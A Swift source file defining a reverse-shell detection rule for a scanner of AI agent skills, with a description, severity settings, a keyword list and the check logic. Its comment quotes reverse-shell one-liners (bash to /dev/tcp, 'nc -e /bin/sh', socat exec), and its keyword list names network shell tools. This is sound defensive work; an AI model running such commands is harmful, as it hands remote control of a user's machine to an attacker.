import SkillScanCore
import SkillScanLexers

/// Flags reverse shells: a shell whose input and output are wired to a network socket, in
/// shell (`bash -i >& /dev/tcp/h/p 0>&1`, `nc -e /bin/sh`, `socat … exec:`, a `mkfifo`
/// relay through `nc`), Python (`socket` + `dup2` + a shell), Node (`net` socket piped into
/// a spawned shell) or PowerShell (`TCPClient` stream fed to `iex`).
///
/// Prose that merely mentions `/dev/tcp` is not code and is not inspected; security skills
/// that document payloads are reported at low confidence without a chain.
struct ReverseShellRule: Rule {
  static let description = RuleDescription(
    id: "reverse-shell",
    name: "Reverse shell",
    pattern: .reverseShell,
    severity: .critical,
    confidence: .high,
    languages: [.shell, .python, .javascript, .powershell, .markdown, .text],
    summary: "Code hands an interactive shell to a remote host.",
    rationale: """
      A reverse shell gives whoever listens at the remote address full interactive control \
      of the user's machine with the agent's privileges. No legitimate skill needs one.
      """,
    remediation: "Remove the code; if remote administration is the purpose, use an authenticated tool the user configures.",
    references: [.owaspLLM(6), .owaspASI(5), .owaspASI(10), .atlas("AML.T0050"), .cwe(506), .taxonomy("5.3")],
    keywords: ["/dev/tcp", "/dev/udp", "nc", "ncat", "netcat", "socat", "mkfifo", "dup2", "pty", "net.socket",
      "net.connect", "createconnection", "tcpclient", "/inet/tcp", "/inet/udp", "socket(", "io::socket", "fsockopen",
      "stream_socket_client", "socket_create", "tcpsocket", "socket.tcp", "socket.connect", "telnet",
      "0>&1", "0<&1", "<&", "0>&2", "0<&2", "websocket", "socketio", "socket.io", "create_connection",
      // Connections in languages without a lexer (``otherScriptReverse(_:)``).
      "net.dial", "tls.dial", "sockaddr_in", "new socket(", "tcpstream::connect", "socket_connect",
      // Remote command channels written as instructions (``proseChannels(in:)``).
      "that command", "those commands", "each command", "every command", "whatever", "returned command", "cmd",
      "run field", "run value", "command field", "command in", "commands it", "command it", "received command"],
    triggeringExamples: ReverseShellRule.triggering,
    nonTriggeringExamples: ReverseShellRule.nonTriggering
  )

  func check(file: AnalyzedFile, in skill: AnalyzedSkill, into sink: inout FindingSink) {
    let security = SecurityPurpose.isSecurityTool(skill) && file.source.language == .markdown
    // Plain text, and scripts in languages without a lexer (Go, Ruby, Perl, PHP …): only
    // the connection-shell-wiring check applies.
    if file.source.language == .text {
      if let hit = Self.otherScriptReverse(file) { report(hit.message, hit.range, .affirmative, false, file, &sink) }
      return
    }
    let bytes = file.bytes
    for span in BehaviorShellSpans.spans(of: file) {
      if span.kind != .inline, let opened = Self.socketCommandLoop(span.pipelines, bytes) {
        let polarity = BehaviorShellSpans.polarity(span, file, opened)
        report("commands read from a /dev/tcp socket are executed", opened, polarity, security, file, &sink)
      }
      for pipeline in span.pipelines {
        guard let message = Self.shellReverse(pipeline, bytes) else { continue }
        let polarity = BehaviorShellSpans.polarity(span, file, pipeline.range)
        report(message, pipeline.range, polarity, security, file, &sink)
      }
    }
    if file.source.language == .markdown || file.source.language == .text {
      for channel in Self.proseChannels(in: file) {
        let polarity = ProsePolarity.classify(file, at: channel.range)
        let chain = channel.unattended && polarity == .affirmative && !security
        sink.report(
          "instruction runs commands received from a remote endpoint" + (channel.unattended ? " without the user's approval" : ""),
          in: file, at: channel.range, severity: channel.unattended ? .critical : .medium, confidence: security ? .low : .high,
          context: .instruction, polarity: polarity, chain: chain ? .remoteShell : nil)
      }
    }
    for region in file.regions where region.kind != .inlineCode && region.language.isExecutable {
      if let hit = Self.codeReverse(region, file) ?? Self.codeStringReverse(region, file) {
        report(hit.message, hit.range, .affirmative, security, file, &sink)
      }
    }
  }

  private func report(
    _ message: String, _ range: Range<Int>, _ polarity: Polarity, _ security: Bool,
    _ file: AnalyzedFile, _ sink: inout FindingSink
  ) {
    sink.report(
      message, in: file, at: range, severity: security ? .high : .critical,
      confidence: security ? .low : .high, polarity: polarity,
      chain: security ? nil : .remoteShell)
  }
}
